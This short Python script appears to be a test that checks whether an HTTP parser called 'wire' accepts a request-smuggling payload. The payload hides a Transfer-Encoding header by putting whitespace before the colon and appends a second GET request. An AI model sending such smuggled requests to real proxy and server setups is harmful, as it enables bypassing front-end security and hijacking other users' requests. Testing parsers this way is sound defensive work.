"""A blank before the colon hides the header from the proxy, and the parser strips it."""

import random
import string
import sys

from wire import BadRequest, requests

SEED = 0

rng = random.Random(SEED)
path, form, host = ("".join(rng.choices(string.ascii_lowercase, k=rng.randint(3, 9))) for _ in range(3))
blank = rng.choice((" ", "\t", "  ", " \t"))
smuggled = f"GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n"
head = f"POST /{form} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding{blank}: chunked\r\n\r\n"
try:
    for request in requests(f"{head}0\r\n\r\n{smuggled}".encode()):
        if request.path == f"/{path}":
            sys.exit(0)
except (BadRequest, ValueError):
    pass
sys.exit(1)
